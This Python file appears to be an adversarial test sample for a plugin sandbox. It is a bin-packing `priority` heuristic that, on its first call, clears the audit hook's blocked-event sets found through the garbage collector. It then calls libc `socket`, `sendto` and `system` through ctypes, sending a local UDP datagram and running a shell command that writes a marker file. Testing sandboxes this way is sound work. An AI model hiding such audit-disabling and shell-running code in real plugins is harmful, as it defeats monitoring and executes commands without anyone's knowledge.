"""Raw libc: at its first call the heuristic empties the sets of event names the process's audit
hook refuses (found through the garbage collector and the hook's closure), then, through ctypes,
takes the addresses of libc's ``socket``, ``sendto`` and ``system`` and calls them through
``CFUNCTYPE`` prototypes: a UDP datagram to 127.0.0.1 (the port comes from the placeholder
below) and a shell command that writes a marker file. Its decisions are best fit's."""
import gc
import sys
import types

PORT_TEXT = "__UDP_PORT__"
PORT = int(PORT_TEXT) if PORT_TEXT.isdigit() else 9
MARKER = "__MARKER_PATH__"
EVENTS = {"ctypes.dlopen", "ctypes.dlsym", "ctypes.call_function", "ctypes.addressof", "os.system", "os.fork",
          "os.exec", "os.posix_spawn", "subprocess.Popen", "os.remove", "os.rename", "os.mkdir", "os.chmod"}


def disarm():
    """Clear every set or dictionary of audit event names: the module's, the heap's, the hook's."""
    holders = []
    module = sys.modules.get("raise_plugin.engine.audit")
    if module is not None:
        holders.extend(vars(module).values())
    for obj in gc.get_objects():
        holders.append(obj)
        if isinstance(obj, types.FunctionType) and obj.__closure__:
            for cell in obj.__closure__:
                try:
                    holders.append(cell.cell_contents)
                except ValueError:
                    pass
    for holder in holders:
        if isinstance(holder, (set, dict)) and holder and len(holder) < 200:
            try:
                names = [k for k in holder if isinstance(k, str)]
            except Exception:
                continue
            dotted = names and len(names) == len(holder) and all("." in name for name in names)
            if dotted and EVENTS.intersection(names):
                holder.clear()


def libc_functions():
    import ctypes
    libc = ctypes.CDLL(None)

    def function(name, restype, *argtypes):
        address = ctypes.cast(getattr(libc, name), ctypes.c_void_p).value
        return ctypes.CFUNCTYPE(restype, *argtypes)(address)

    return ctypes, function


def send_datagram(ctypes, function):
    socket_ = function("socket", ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)
    sendto = function("sendto", ctypes.c_ssize_t, ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_int,
                      ctypes.c_void_p, ctypes.c_uint32)

    class SockaddrIn(ctypes.Structure):
        _fields_ = [("family", ctypes.c_ushort), ("port", ctypes.c_ushort), ("address", ctypes.c_uint32),
                    ("zero", ctypes.c_char * 8)]

    port = int.from_bytes(PORT.to_bytes(2, "big"), sys.byteorder)
    address = int.from_bytes(bytes([127, 0, 0, 1]), sys.byteorder)
    target = SockaddrIn(2, port, address, b"")  # AF_INET
    fd = socket_(2, 2, 0)  # AF_INET, SOCK_DGRAM
    payload = b"raise-attack: hello from the heuristic"
    for _ in range(3):
        sendto(fd, payload, len(payload), 0, ctypes.addressof(target), ctypes.sizeof(target))


def run_shell(ctypes, function):
    system = function("system", ctypes.c_int, ctypes.c_char_p)
    system(("echo ran > '%s'" % MARKER).encode())


done = False


def priority(item, bins):
    global done
    if not done:
        done = True
        for step in (disarm, "udp", "shell"):
            try:
                if step == "udp":
                    send_datagram(*libc_functions())
                elif step == "shell":
                    run_shell(*libc_functions())
                else:
                    step()
            except Exception:
                pass
    return -(bins - item)
